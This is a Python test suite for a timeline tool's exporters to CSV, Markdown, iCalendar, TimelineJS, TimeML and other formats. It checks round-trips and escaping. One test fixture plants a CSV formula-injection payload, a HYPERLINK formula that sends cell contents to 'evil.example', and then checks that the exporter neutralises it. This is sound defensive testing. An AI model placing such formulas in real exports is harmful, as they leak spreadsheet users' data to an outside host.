"""Every format, read back by the program or library that consumes it."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import date, datetime
from html.parser import HTMLParser
from typing import Any

import icalendar
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from markdown_it import MarkdownIt

from tests.sample import (
    AWKWARD_ID,
    AWKWARD_NAME,
    AWKWARD_TEXT,
    ORDER,
    SEED_ID,
    SEED_TEXT,
    build_timeline,
)
from timeline.errors import ExportError, UsageError
from timeline.exporters import EXPORTERS, FORMATS, format_for_path, get_exporter
from timeline.schema import SCHEMA


def render(
    name: str, data: dict[str, Any], texts: dict[str, str] | None = None
) -> tuple[str, list[str]]:
    notes: list[str] = []
    exporter = get_exporter(name)
    if getattr(exporter, "binary", False):  # parquet: the bytes, one character a byte
        raw = io.BytesIO()
        stream = io.TextIOWrapper(raw, encoding="utf-8", newline="")
        exporter.write(data, stream, texts=texts, note=notes.append)
        stream.flush()
        return raw.getvalue().decode("latin-1"), notes
    out = io.StringIO()
    exporter.write(data, out, texts=texts, note=notes.append)
    return out.getvalue(), notes


def subschema(name: str) -> Draft202012Validator:
    return Draft202012Validator({"$ref": f"#/$defs/{name}", "$defs": SCHEMA["$defs"]})


def by_id(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {event["id"]: event for event in data["events"]}


# --- the registry ------------------------------------------------------------------


def test_registry_lists_every_format() -> None:
    assert set(FORMATS) == {
        "table",
        "json",
        "jsonl",
        "csv",
        "md",
        "ics",
        "timelinejs",
        "html",
        "timeml",
        "parquet",
    }
    for name, exporter in EXPORTERS.items():
        assert exporter.name == name
        assert exporter.description
        assert all(ext.startswith(".") and ext == ext.lower() for ext in exporter.extensions)


def test_unknown_format_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match=r"unknown format 'pdf'.*timelinejs"):
        get_exporter("pdf")
    assert get_exporter("ICS").name == "ics"


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("out.json", "json"),
        ("out/events.JSONL", "jsonl"),
        ("a.ndjson", "jsonl"),
        ("t.csv", "csv"),
        ("README.md", "md"),
        ("cal.ics", "ics"),
        ("x.timelinejs.json", "timelinejs"),
        ("doc.tml", "timeml"),
        ("report.txt", "table"),
        ("noextension", None),
        ("archive.tar.gz", None),
        (".json", None),
    ],
)
def test_format_from_file_name(path: str, name: str | None) -> None:
    assert format_for_path(path) == name


@pytest.mark.parametrize("name", FORMATS)
def test_output_is_deterministic(name: str, data: dict[str, Any], texts: dict[str, str]) -> None:
    one = data if name != "timeml" else {**data, "documents": data["documents"][:1]}
    assert render(name, one, texts) == render(name, copy.deepcopy(one), dict(texts))


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_copes_with_an_empty_timeline(name: str, data: dict[str, Any]) -> None:
    empty = {**data, "documents": data["documents"][:1], "events": []}
    text, _ = render(name, empty, {SEED_ID: SEED_TEXT})
    assert text or name == "jsonl"  # no events: no lines


# --- json ---------------------------------------------------------------------------


def test_json_is_the_document(data: dict[str, Any]) -> None:
    text, notes = render("json", data)
    assert text.endswith("}\n") and '\n  "documents": [' in text
    assert "Ünal" in text and "“Kyiv”" in text  # not \u escapes
    parsed = json.loads(text)
    Draft202012Validator(SCHEMA).validate(parsed)
    assert parsed == data
    assert [e["id"] for e in parsed["events"]] == ORDER
    assert notes == []


# --- jsonl --------------------------------------------------------------------------


def test_jsonl_one_complete_event_a_line(data: dict[str, Any]) -> None:
    text, _ = render("jsonl", data)
    lines = text.splitlines()
    assert len(lines) == len(ORDER) == text.count("\n")
    line_validator, event_validator = subschema("event_line"), subschema("event")
    events = by_id(data)
    for line in lines:
        record = json.loads(line)
        line_validator.validate(record)
        doc_fields = {k: record.pop(k) for k in list(record) if k.startswith("document_")}
        event_validator.validate(record)
        assert record == events[record["id"]]
        doc = next(d for d in data["documents"] if d["id"] == record["document"])
        assert doc_fields["document_anchor"] == doc["anchor"]
        assert doc_fields["document_anchor_source"] == doc["anchor_source"]
        assert doc_fields["document_title"] == doc["title"]
    first = json.loads(lines[0])
    assert first["id"] == "invasion-2014" and first["document_anchor"] == "2022-01-10"


def test_jsonl_lines_stay_lines_with_unicode_line_separators(data: dict[str, Any]) -> None:
    data["events"][0]["summary"] = "one\u2028two\u2029three\x85four\nfive"
    text, _ = render("jsonl", data)
    assert len(text.splitlines()) == len(ORDER)
    assert json.loads(text.splitlines()[0])["summary"] == "one\u2028two\u2029three\x85four\nfive"


# --- csv ----------------------------------------------------------------------------


def test_csv_rows_read_back(data: dict[str, Any]) -> None:
    text, _ = render("csv", data)
    assert text.startswith("date,date_text,granularity,type,status,summary,location,actors,")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(ORDER)
    records = [dict(zip(header, row, strict=True)) for row in body]
    assert [r["id"] for r in records] == ORDER
    got = {r["id"]: r for r in records}
    assert got["geneva-talks"]["actors"] == "Russia; United States; Wendy R. Sherman"
    assert got["geneva-talks"]["location"] == "Geneva"
    assert got["nato-council"]["location"] == ""
    assert got["statement-undated"]["date"] == ""
    assert got["statement-undated"]["actors"] == AWKWARD_NAME  # newline, pipe, comma survive
    assert "\n" in got["brussels-consultations"]["sentence"]
    assert (
        got["brussels-consultations"]["sentence"]
        == by_id(data)["brussels-consultations"]["sentence"]
    )
    assert got["meeting-geneve"]["summary"] == by_id(data)["meeting-geneve"]["summary"]
    assert got["call-3pm"]["date"] == "2022-01-11T15:00"
    assert got["talks-week"]["granularity"] == "week"
    # RFC 4180: every record ends in CRLF; bare LFs occur only inside quoted fields.
    assert text.count("\r\n") == len(ORDER) + 1


def _formulas(data: dict[str, Any]) -> dict[str, Any]:
    """The sample with cells a spreadsheet would run: scraped text can hold anything."""
    data = copy.deepcopy(data)
    event = by_id(data)["geneva-talks"]
    event["summary"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Geneva talks")'
    event["sentence"] = "-2+3 was the score, the minister said."
    event["location"]["name"] = "+Geneva"
    event["actors"][0]["name"] = "@Sherman"
    event["date_text"] = "\tMonday"
    event["id"] = "\rgeneva-talks"
    return data


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(data: dict[str, Any]) -> None:
    text, _ = render("csv", _formulas(data))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    (row,) = [r for r in rows if r["id"].endswith("geneva-talks")]
    assert row["summary"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Geneva talks")'
    assert row["sentence"] == "'-2+3 was the score, the minister said."
    assert row["location"] == "'+Geneva"
    assert row["actors"] == "'@Sherman; United States; Wendy R. Sherman"
    assert row["date_text"] == "'\tMonday"
    assert row["id"] == "'\rgeneva-talks"
    # Only a leading sign counts: inside a cell it is text to every reader.
    assert row["date"] == "2022-01-10"
    assert any(r["summary"] == by_id(data)["meeting-geneve"]["summary"] for r in rows)


def test_csv_raw_writes_every_cell_as_it_is(data: dict[str, Any]) -> None:
    from timeline.exporters.csvfile import CsvExporter

    formulas = _formulas(data)
    out = io.StringIO()
    CsvExporter(raw=True).write(formulas, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    (row,) = [r for r in rows if r["id"] == "\rgeneva-talks"]
    assert row["summary"] == by_id(formulas)["\rgeneva-talks"]["summary"]
    assert row["actors"].startswith("@Sherman; ")
    assert row["date_text"] == "\tMonday"


# --- md -----------------------------------------------------------------------------


class _Cells(HTMLParser):
    """Rows of table cells in rendered HTML; <br> read as a line break."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[str]] = []
        self.cell: list[str] | None = None
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self.cell = []
        elif tag == "br" and self.cell is not None:
            self.cell.append("\n")
        elif self.cell is not None:
            self.tags.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append("".join(self.cell))
            self.cell = None

    def handle_data(self, data: str) -> None:
        if self.cell is not None:
            self.cell.append(data)


def _split_unescaped_pipes(line: str) -> list[str]:
    return re.split(r"(?<!\\)(?:\\\\)*\|", line.strip())[1:-1]


def test_markdown_table_renders_with_every_cell_intact(data: dict[str, Any]) -> None:
    text, _ = render("md", data)
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert len(rows) == 2 + len(ORDER)
    assert all(len(_split_unescaped_pipes(row)) == 7 for row in rows)
    html = MarkdownIt("commonmark").enable("table").render(text)
    parser = _Cells()
    parser.feed(html)
    header, body = parser.rows[0], parser.rows[1:]
    assert header == ["Date", "Event", "Type", "Where", "Who", "Status", "Source"]
    assert len(body) == len(ORDER)
    assert parser.tags == []  # nothing in the text became markup
    cells = {row[1]: row for row in body}
    meeting = by_id(data)["meeting-geneve"]
    assert cells[meeting["summary"]][3] == "Genève, Switzerland"
    statement = cells[by_id(data)["statement-undated"]["summary"]]
    assert statement[0] == "undated"
    assert statement[4] == AWKWARD_NAME
    assert statement[6] == "Sanctions, “Kyiv” | Ünal; a <test> & more"
    assert body[0][0] == "2014" and body[0][6] == SEED_ID
    assert cells["Phone call between Çelik and Kuleba"][0] == "2022-01-11T15:00 (3 p.m. on Tuesday)"


def test_markdown_one_document_has_no_source_column(seed_only: dict[str, Any]) -> None:
    text, _ = render("md", seed_only)
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert len(rows) == 2 + 5 and all(len(_split_unescaped_pipes(r)) == 6 for r in rows)
    assert "anchor 2022-01-10 (option)" in text


# --- ics ----------------------------------------------------------------------------


def test_ics_calendar_reads_back(data: dict[str, Any]) -> None:
    text, notes = render("ics", data)
    calendar = icalendar.Calendar.from_ical(text)
    assert calendar["VERSION"] == "2.0" and "timeline" in str(calendar["PRODID"])
    events = {str(e["SUMMARY"]): e for e in calendar.walk("VEVENT")}
    assert len(events) == 6
    talks = events["Russian and American officials held “frank and direct” talks"]
    assert talks.decoded("DTSTART") == date(2022, 1, 10)
    assert talks.decoded("DTEND") == date(2022, 1, 11)
    assert str(talks["LOCATION"]) == "Geneva"
    assert str(talks["STATUS"]) == "CONFIRMED"
    assert "eight hours" in str(talks["DESCRIPTION"])
    assert f"Source: {SEED_ID} (seeds/{SEED_ID}.txt), anchor 2022-01-10" in str(
        talks["DESCRIPTION"]
    )
    assert talks.decoded("DTSTAMP") == datetime(
        2022, 1, 10, 0, 0, tzinfo=talks.decoded("DTSTAMP").tzinfo
    )
    call = events["Phone call between Çelik and Kuleba"]
    assert call.decoded("DTSTART") == datetime(2022, 1, 11, 15, 0)  # floating local time
    assert "DTEND" not in call
    assert str(call["STATUS"]) == "TENTATIVE"
    assert str(call["URL"]) == "https://example.org/news?id=1&x=2"
    meeting = events[by_id(data)["meeting-geneve"]["summary"]]  # ; , \ | < survive
    assert str(meeting["LOCATION"]) == "Genève, Switzerland"
    assert "Sanctions, “Kyiv” | Ünal; a <test> & more" in str(meeting["DESCRIPTION"])
    left_out = {"Russia invaded Ukraine", "Officials held talks with Ünal Çelik"}
    assert not left_out & set(events)
    assert notes == [
        "ics: 3 of 9 events left out of the calendar (a calendar needs a day): "
        "1 dated only to a week, 1 dated only to a year, 1 undated"
    ]


def test_ics_is_well_formed_text(data: dict[str, Any]) -> None:
    text, _ = render("ics", data)
    assert text.startswith("BEGIN:VCALENDAR\r\n") and text.endswith("END:VCALENDAR\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode("utf-8")) <= 75 for line in text.split("\r\n"))
    assert text.count("BEGIN:VEVENT") == 6


def test_ics_uids_are_stable_and_unique(data: dict[str, Any]) -> None:
    first, _ = render("ics", data)
    again, _ = render("ics", copy.deepcopy(data))
    uids = [str(e["UID"]) for e in icalendar.Calendar.from_ical(first).walk("VEVENT")]
    assert uids == [str(e["UID"]) for e in icalendar.Calendar.from_ical(again).walk("VEVENT")]
    assert len(set(uids)) == len(uids)
    # Two events on one trigger and date still get two UIDs.
    twin = copy.deepcopy(by_id(data)["geneva-talks"])
    twin["id"] = "geneva-twin"
    data["events"].append(twin)
    text, _ = render("ics", data)
    uids = [str(e["UID"]) for e in icalendar.Calendar.from_ical(text).walk("VEVENT")]
    assert len(uids) == 7 == len(set(uids))


def test_ics_unresolved_dates_are_left_out(data: dict[str, Any]) -> None:
    by_id(data)["osce-vienna"]["date"] = "XXXX-WXX-4"
    by_id(data)["brussels-consultations"]["date"] = "2022-01-11TMO"
    text, notes = render("ics", data)
    events = icalendar.Calendar.from_ical(text).walk("VEVENT")
    assert len(events) == 5
    morning = next(e for e in events if "consultations" in str(e["SUMMARY"]))
    assert morning.decoded("DTSTART") == date(2022, 1, 11)
    assert "1 unresolved" in notes[0]


# icalendar's reader turns an escaped backslash before an n into a line break
# (`\\n` on the wire reads back as a backslash and a newline): a fault of the
# reader, so such summaries are checked on the wire instead, below.
_NO_BACKSLASH_N = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300
).filter(lambda s: not re.search(r"\\[nN]", s))


@settings(max_examples=200, deadline=None)
@given(_NO_BACKSLASH_N)
def test_ics_any_summary_survives_folding_and_escaping(summary: str) -> None:
    data = build_timeline().to_dict()
    data["events"] = [by_id(data)["geneva-talks"]]
    data["events"][0]["summary"] = summary
    text, _ = render("ics", data)
    assert all(len(line.encode("utf-8")) <= 75 for line in text.split("\r\n"))
    (event,) = icalendar.Calendar.from_ical(text).walk("VEVENT")
    expected = re.sub(r"\r\n|[\r\n\x85\u2028\u2029]", "\n", summary)
    expected = re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", expected)
    assert str(event.get("SUMMARY", "")) == expected


def _unfolded(text: str) -> str:
    return text.replace("\r\n ", "")


def test_ics_a_backslash_before_n_stays_a_backslash() -> None:
    data = build_timeline().to_dict()
    data["events"] = [by_id(data)["geneva-talks"]]
    data["events"][0]["summary"] = "Files moved from C:\\New\\notes, line one\nline two"
    text, _ = render("ics", data)
    wire = r"SUMMARY:Files moved from C:\\New\\notes\, line one\nline two"
    assert wire + "\r\n" in _unfolded(text)


def test_ics_folding_never_splits_a_character() -> None:
    data = build_timeline().to_dict()
    data["events"] = [by_id(data)["geneva-talks"]]
    data["events"][0]["summary"] = "Ü" * 100
    text, _ = render("ics", data)
    lines = text.split("\r\n")
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)  # decodes: no split character
    assert "SUMMARY:" + "Ü" * 100 + "\r\n" in _unfolded(text)
    assert sum(line.startswith(" Ü") for line in lines) >= 2


# --- timelinejs ---------------------------------------------------------------------


def test_timelinejs_structure(data: dict[str, Any]) -> None:
    text, notes = render("timelinejs", data)
    doc = json.loads(text)
    assert set(doc) == {"title", "events"}
    assert doc["title"]["text"]["headline"] == "Timeline of 2 documents"
    assert "anchor 2022-01-10 (option)" in doc["title"]["text"]["text"]
    events = doc["events"]
    assert len(events) == 8 and notes == [
        "timelinejs: 1 of 9 events left out (undated or unresolved: no place on a time axis)"
    ]
    slides = {e["unique_id"]: e for e in events}
    assert [e["unique_id"] for e in events] == [i for i in ORDER if i != "statement-undated"]
    for slide in events:
        assert set(slide) >= {"start_date", "text", "group"}
        assert set(slide["text"]) == {"headline", "text"}
        for key in ("start_date", "end_date"):
            assert all(isinstance(v, str) and v.isdigit() for v in slide.get(key, {}).values())
    assert slides["invasion-2014"]["start_date"] == {"year": "2014"}
    assert "end_date" not in slides["invasion-2014"]
    assert slides["geneva-talks"]["start_date"] == {"year": "2022", "month": "1", "day": "10"}
    assert slides["call-3pm"]["start_date"] == {
        "year": "2022",
        "month": "1",
        "day": "11",
        "hour": "15",
        "minute": "0",
    }
    week = slides["talks-week"]
    assert week["start_date"] == {"year": "2022", "month": "1", "day": "10"}
    assert week["end_date"] == {"year": "2022", "month": "1", "day": "16"}
    assert week["display_date"] == "week 2 of 2022"
    assert slides["geneva-talks"]["group"] == SEED_ID
    # TimelineJS reads a group as HTML twice over (tests/test_browser.py): escaped twice.
    assert (
        slides["call-3pm"]["group"]
        == "Sanctions, “Kyiv” | Ünal; a &amp;lt;test&amp;gt; &amp;amp; more"
    )
    meeting = slides["meeting-geneve"]["text"]
    assert "&lt;b&gt;bold&lt;/b&gt;" in meeting["headline"] and "<b>" not in meeting["headline"]
    assert "Where: Genève, Switzerland" in meeting["text"]
    assert 'href="https://example.org/news?id=1&amp;x=2"' in meeting["text"]


def test_timelinejs_one_document_groups_by_type(seed_only: dict[str, Any]) -> None:
    doc = json.loads(render("timelinejs", seed_only)[0])
    assert doc["title"]["text"]["headline"] == SEED_ID
    assert [e["group"] for e in doc["events"]] == [
        "military",
        "talks",
        "meeting",
        "meeting",
        "meeting",
    ]


@pytest.mark.parametrize(
    ("value", "start", "end", "display"),
    [
        ("2013-Q1", {"year": "2013", "month": "1"}, {"year": "2013", "month": "3"}, "Q1 2013"),
        ("2010-05", {"year": "2010", "month": "5"}, None, None),
        ("201", {"year": "2010"}, {"year": "2019"}, "the 2010s"),
        ("2022-01-11TEV", {"year": "2022", "month": "1", "day": "11"}, None, "2022-01-11, evening"),
    ],
)
def test_timelinejs_coarse_dates(
    data: dict[str, Any], value: str, start: Any, end: Any, display: Any
) -> None:
    data["events"] = [by_id(data)["invasion-2014"]]
    data["events"][0]["date"] = value
    (slide,) = json.loads(render("timelinejs", data)[0])["events"]
    assert slide["start_date"] == start
    assert slide.get("end_date") == end
    assert slide.get("display_date") == display


# --- timeml -------------------------------------------------------------------------


def _one(data: dict[str, Any], doc_id: str) -> dict[str, Any]:
    return {
        **data,
        "documents": [d for d in data["documents"] if d["id"] == doc_id],
        "events": [e for e in data["events"] if e["document"] == doc_id],
    }


def test_timeml_reproduces_the_seed_text(data: dict[str, Any], texts: dict[str, str]) -> None:
    text, notes = render("timeml", _one(data, SEED_ID), texts)
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "TimeML"
    assert root.findtext("DOCID") == SEED_ID
    dct = root.find("DCT/TIMEX3")
    assert dct is not None and dct.attrib["value"] == "2022-01-10"
    assert dct.attrib["tid"] == "t0" and dct.attrib["functionInDocument"] == "CREATION_TIME"
    body = root.find("TEXT")
    assert body is not None
    assert "".join(body.itertext()) == SEED_TEXT
    timexes = body.findall("TIMEX3")
    assert [(t.text, t.attrib["value"]) for t in timexes] == [
        ("eight hours", "PT8H"),
        ("eight hours", "PT8H"),
        ("Monday", "2022-01-10"),
        ("Monday", "2022-01-10"),
        ("2014", "2014"),
        ("Tuesday", "2022-01-11"),
        ("Wednesday", "2022-01-12"),
        ("Thursday", "2022-01-13"),
    ]
    assert [t.attrib["tid"] for t in timexes] == [f"t{i}" for i in range(1, 9)]
    events = body.findall("EVENT")
    assert [e.text for e in events] == ["talks", "invaded", "consultations", "session", "meeting"]
    assert {e.attrib["class"] for e in events} == {"OCCURRENCE"}
    instances = root.findall("MAKEINSTANCE")
    assert len(instances) == 5
    links = {
        (link.attrib["eventInstanceID"], link.attrib["relatedToTime"])
        for link in root.findall("TLINK")
    }
    eid_of = {e.text: e.attrib["eid"] for e in events}
    ei_of = {i.attrib["eventID"]: i.attrib["eiid"] for i in instances}
    tid_of = {t.attrib["value"]: t.attrib["tid"] for t in reversed(timexes)}
    assert (ei_of[eid_of["invaded"]], tid_of["2014"]) in links
    assert (ei_of[eid_of["meeting"]], tid_of["2022-01-13"]) in links
    assert (ei_of[eid_of["talks"]], "t3") in links  # the Monday written next to "talks"
    assert notes == []


def test_timeml_reproduces_awkward_text(data: dict[str, Any], texts: dict[str, str]) -> None:
    text, notes = render("timeml", _one(data, AWKWARD_ID), texts)
    assert "&#13;" in text and "&amp;" in text and "&lt;yet&gt;" in text
    root = ET.fromstring(text.encode("utf-8"))
    assert root.findtext("TITLE") == "Sanctions, “Kyiv” | Ünal; a <test> & more"
    body = root.find("TEXT")
    assert body is not None
    assert "".join(body.itertext()) == AWKWARD_TEXT
    # "Tuesday" lies inside "3 p.m. on Tuesday": the inner one is skipped.
    assert [t.text for t in body.findall("TIMEX3")] == [
        "this week",
        "3 p.m. on Tuesday",
        "Wednesday",
    ]
    assert notes == [f"timeml: {AWKWARD_ID}: skipped 1 TIMEX3 overlapping a tag already placed"]
    classes = {e.text: e.attrib["class"] for e in body.findall("EVENT")}
    assert classes["said"] == "REPORTING"


def test_timeml_refuses_what_it_cannot_do(data: dict[str, Any], texts: dict[str, str]) -> None:
    out = io.StringIO()
    exporter = get_exporter("timeml")
    with pytest.raises(ExportError, match=r"one document per file.*has 2.*-o DIR/"):
        exporter.write(data, out, texts=texts)
    with pytest.raises(ExportError, match=r"needs the document text.*--format timeml"):
        exporter.write(_one(data, SEED_ID), out, texts=None)
    with pytest.raises(ExportError, match="does not match its offsets"):
        exporter.write(_one(data, SEED_ID), out, texts={SEED_ID: SEED_TEXT[5:]})
    assert out.getvalue() == ""


def test_timeml_characters_xml_cannot_carry(data: dict[str, Any]) -> None:
    text = SEED_TEXT.replace("Skeptical", "Skeptic\x0cl", 1)
    rendered, notes = render("timeml", _one(data, SEED_ID), {SEED_ID: text})
    body = ET.fromstring(rendered.encode()).find("TEXT")
    assert body is not None
    assert "".join(body.itertext()) == text.replace("\x0c", "\ufffd")
    assert notes == [f"timeml: {SEED_ID}: 1 characters XML cannot carry written as U+FFFD"]


@settings(max_examples=200, deadline=None)
@given(
    text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=80),
    cuts=st.lists(st.tuples(st.integers(0, 80), st.integers(0, 80), st.booleans()), max_size=8),
)
def test_timeml_text_survives_any_spans(text: str, cuts: list[tuple[int, int, bool]]) -> None:
    timexes, events = [], []
    for n, (a, b, is_timex) in enumerate(cuts):
        start, end = sorted((min(a, len(text)), min(b, len(text))))
        if is_timex:
            timexes.append(
                {"start": start, "end": end, "text": text[start:end], "type": "DATE",
                 "value": "2022", "resolved": True}
            )  # fmt: skip
        else:
            events.append(
                {"id": f"e{n}", "document": "d", "date": "2022", "date_text": "", "type": "other",
                 "trigger": {"name": "x", "start": start, "end": end}}
            )  # fmt: skip
    data = {
        "schema_version": "1.0.0",
        "documents": [{"id": "d", "anchor": None, "title": None, "timexes": timexes}],
        "events": events,
        "problems": [],
    }
    rendered, _ = render("timeml", data, {"d": text})
    body = ET.fromstring(rendered.encode()).find("TEXT")
    assert body is not None
    allowed = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
    assert "".join(body.itertext()) == allowed.sub("\ufffd", text)


# --- table --------------------------------------------------------------------------


def test_table_for_people(data: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    data["events"][0]["summary"] = "[bold red]not markup[/bold red]"
    text, _ = render("table", data)
    assert f"{SEED_ID}: anchor 2022-01-10 (option)" in text.splitlines()[0]
    assert (
        "kyiv-1 “Sanctions, “Kyiv” | Ünal; a <test> & more”: anchor 2022-01-11 (metadata)" in text
    )
    assert "[bold red]not markup[/bold red]" in text
    assert "\x1b[" not in text  # no colour codes into a file or pipe
    header = next(line for line in text.splitlines() if "date" in line and "where" in line)
    for column in ("event", "who", "status", "source"):
        assert column in header
    for summary in ("Russia-NATO Council session", "Phone call between Çelik and Kuleba"):
        assert summary in text
    assert "2022-01-11T15:00" in text and "3 p.m. on Tuesday" in text


def test_a_date_the_text_implies_is_shown_as_implied(
    data: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    event = by_id(data)["nato-council"]
    event.update(date_text="", dated_by="context")
    assert subschema("event").is_valid(event)
    markdown, _ = render("md", data)
    assert "| 2022-01-12 (implied) | Russia-NATO Council session |" in markdown
    table, _ = render("table", data)
    lines = table.splitlines()
    at = next(k for k, line in enumerate(lines) if "Russia-NATO Council session" in line)
    assert "implied" in lines[at + 1] and "2022-01-12" in lines[at]


def test_table_fits_a_narrow_terminal(
    data: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    text, _ = render("table", data)
    assert max(len(line) for line in text.splitlines()) <= 80
    assert "…" not in text  # long words fold onto the next line rather than being cut


def test_timelinejs_ids_stay_unique(data: dict[str, Any]) -> None:
    data["events"][0]["id"] = "a:b"
    data["events"][1]["id"] = "a-b"
    ids = [e["unique_id"] for e in json.loads(render("timelinejs", data)[0])["events"]]
    assert ids[:2] == ["a-b", "a-b-2"] and len(set(ids)) == len(ids)


def test_timeml_reads_back_with_the_project_reader(
    data: dict[str, Any], texts: dict[str, str]
) -> None:
    from timeline.timeml import parse_timeml

    for doc_id, text in texts.items():
        rendered, _ = render("timeml", _one(data, doc_id), texts)
        document = parse_timeml(rendered.encode("utf-8"), source=f"{doc_id}.tml")
        assert document.text == text  # CRLF included: written as &#13;
        assert document.id == doc_id
        anchor = next(d["anchor"] for d in data["documents"] if d["id"] == doc_id)
        assert str(document.dct) == anchor
        tagged = {(t.start, t.end, t.value) for t in document.timexes}
        ours = {
            (t["start"], t["end"], t["value"])
            for d in data["documents"]
            if d["id"] == doc_id
            for t in d["timexes"]
        }
        assert tagged <= ours and len(ours - tagged) == (1 if doc_id == AWKWARD_ID else 0)
        triggers = {
            (e["trigger"]["start"], e["trigger"]["end"]) for e in _one(data, doc_id)["events"]
        }
        assert {(e.start, e.end) for e in document.events} == triggers


def test_timeml_links_a_date_to_what_it_dates_beside_the_events(
    data: dict[str, Any], texts: dict[str, str]
) -> None:
    from timeline.timeml import parse_timeml

    one = copy.deepcopy(_one(data, SEED_ID))
    text = texts[SEED_ID]
    timex = one["documents"][0]["timexes"][0]
    word = "Skeptical"  # a word no event of the seed is triggered by
    at = text.index(word)
    timex["dates"] = {"name": word, "class": "OCCURRENCE", "start": at, "end": at + len(word)}
    rendered, _ = render("timeml", one, texts)
    document = parse_timeml(rendered.encode("utf-8"), source="seed.tml")
    (event,) = [e for e in document.events if e.start == at]
    assert (event.text, event.event_class) == (word, "OCCURRENCE")
    (tagged,) = [t for t in document.timexes if t.start == timex["start"]]
    assert [
        (link.rel_type, link.related_time) for link in document.links if link.event == event.eid
    ] == [("IS_INCLUDED", tagged.tid)]
    triggers = {(e["trigger"]["start"], e["trigger"]["end"]) for e in one["events"]}
    assert {(e.start, e.end) for e in document.events} == triggers | {(at, at + len(word))}


def test_markdown_cells_keep_entities_and_markup_as_text(data: dict[str, Any]) -> None:
    tricky = "&lt;b&gt; &amp; AT&T &#169; *not* _em_ `code` [link](x) ~~gone~~ a\\|b"
    data["events"][0]["summary"] = tricky
    text, _ = render("md", data)
    parser = _Cells()
    parser.feed(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text))
    assert parser.rows[1][1] == tricky and parser.tags == []


@settings(max_examples=300, deadline=None)
@given(
    st.text(
        alphabet=st.characters(
            blacklist_categories=("Cs", "Cc", "Zl", "Zp"), blacklist_characters="\x85"
        ),
        max_size=60,
    )
)
def test_markdown_any_summary_is_one_cell_of_text(summary: str) -> None:
    data = build_timeline().to_dict()
    data["documents"], data["events"] = data["documents"][:1], data["events"][:1]
    data["events"][0]["summary"] = summary
    text, _ = render("md", data)
    parser = _Cells()
    parser.feed(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text))
    assert len(parser.rows) == 2 and len(parser.rows[1]) == 6
    assert parser.rows[1][1] == summary.strip() and parser.tags == []
